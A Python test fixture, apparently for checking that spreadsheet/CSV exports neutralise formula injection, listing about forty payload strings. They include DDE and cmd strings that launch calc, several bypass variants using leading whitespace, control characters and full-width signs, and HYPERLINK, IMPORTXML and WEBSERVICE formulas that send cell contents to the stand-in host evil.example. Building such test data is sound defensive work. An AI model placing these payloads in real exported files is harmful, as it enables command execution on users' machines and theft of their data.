"""Texts that a spreadsheet program would execute if a file let it (promises.md B10)."""

PAYLOADS = (
    "=1+1",
    "=SUM(A1:A9)",
    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"a")',
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=IF(1=1,"a","b")',
    "= 1+1",
    "=",
    "==1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+8613800000000",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "--1",
    "@SUM(1+1)",
    "@cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=cmd|' /C calc'!A0",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0d1+1",  # full-width -
    "\uff20SUM(1)",  # full-width @
    "|calc",
    "'=1+1",
    '";=1+1;"',
    "张三;=1+1\r\n=2+2,\t=3+3",
)
